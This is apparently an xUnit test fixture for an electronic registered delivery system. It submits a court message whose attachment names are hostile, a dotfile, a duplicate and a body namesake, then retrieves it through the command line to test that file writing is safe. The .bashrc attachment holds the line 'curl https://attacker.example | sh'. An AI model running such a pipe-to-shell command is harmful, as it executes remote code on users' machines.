using System.Net.Http.Headers;
using System.Text;
using Xunit;

namespace Erds.Host.Tests.Support;

// A message whose sender chose hostile attachment names (a dotfile, one name twice, the name the body
// is saved under), submitted and retrieved with the erds command line against a provider process. The
// recipient retrieves without --out in an otherwise empty directory, as one would in a home directory.
public sealed class CliRetrievalFixture : IAsyncLifetime
{
    public static readonly byte[] Body = Encoding.UTF8.GetBytes("Geachte heer, mevrouw, bijgaand de stukken.\n");
    public static readonly byte[] DotFile = Encoding.UTF8.GetBytes("curl https://attacker.example | sh\n");
    public static readonly byte[] FirstPdf = Encoding.ASCII.GetBytes("%PDF-1.4 the first a.pdf\n");
    public static readonly byte[] SecondPdf = Encoding.ASCII.GetBytes("%PDF-1.4 the second a.pdf\n");
    public static readonly byte[] BodyNamesake = Encoding.UTF8.GetBytes("an attachment the sender called body.txt\n");

    private readonly string _root = Path.Combine(Path.GetTempPath(), "erds-cli-" + Guid.NewGuid().ToString("N"));
    private HostProcess? _host;

    public CliSession Recipient { get; private set; } = null!;

    public string FirmToken { get; private set; } = "";

    public Guid MessageId { get; private set; }

    public string MessageDirectory => Path.Combine(Recipient.WorkingDirectory, MessageId.ToString());

    public string RetrieveOutput { get; private set; } = "";

    public async ValueTask InitializeAsync()
    {
        _host = await HostProcess.StartAsync();
        var operatorCli = CliSession.For(_host, NewDirectory("operator"));
        await operatorCli.RunOkAsync("org", "add", "--handle", "court", "--name", "Rechtbank");
        await operatorCli.RunOkAsync("mailbox", "add", "--org", "court", "--address", "griffie@court.example", "--functional");
        await operatorCli.RunOkAsync("org", "add", "--handle", "firm", "--name", "Advocatenkantoor");
        await operatorCli.RunOkAsync("mailbox", "add", "--org", "firm", "--address", "kantoor@firm.example");
        var courtToken = await operatorCli.RunOkAsync("token", "issue", "--org", "court");
        FirmToken = await operatorCli.RunOkAsync("token", "issue", "--org", "firm");

        var sources = NewDirectory("sources");
        var sender = CliSession.For(_host, sources);
        var id = await sender.RunOkAsync("submit", "--token", courtToken, "--from", "griffie@court.example", "--to", "kantoor@firm.example",
            "--body", Source(sources, "brief.txt", Body),
            "--attach", Source(sources, ".bashrc", DotFile),
            "--attach", Source(sources, "one/a.pdf", FirstPdf),
            "--attach", Source(sources, "two/a.pdf", SecondPdf),
            "--attach", Source(sources, "body.txt", BodyNamesake));
        MessageId = Guid.Parse(id);
        await ConsignedAsync(courtToken);

        Recipient = CliSession.For(_host, NewDirectory("recipient"));
        RetrieveOutput = await Recipient.RunOkAsync("inbox", "retrieve", id, "--token", FirmToken);
    }

    public async ValueTask DisposeAsync()
    {
        if (_host is not null) await _host.DisposeAsync();
        try { Directory.Delete(_root, recursive: true); } catch (IOException) { }
    }

    // Retrieval before consignment is refused; the bus makes consignment asynchronous.
    private async Task ConsignedAsync(string senderToken)
    {
        using var http = new HttpClient { BaseAddress = _host!.BaseAddress };
        http.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", senderToken);
        await new ErdsApi(http).WaitForEvidenceAsync(MessageId, "ContentConsignment");
    }

    private string NewDirectory(string name) => Directory.CreateDirectory(Path.Combine(_root, name)).FullName;

    private static string Source(string directory, string relativePath, byte[] bytes)
    {
        var path = Path.Combine(directory, relativePath);
        Directory.CreateDirectory(Path.GetDirectoryName(path)!);
        File.WriteAllBytes(path, bytes);
        return path;
    }
}
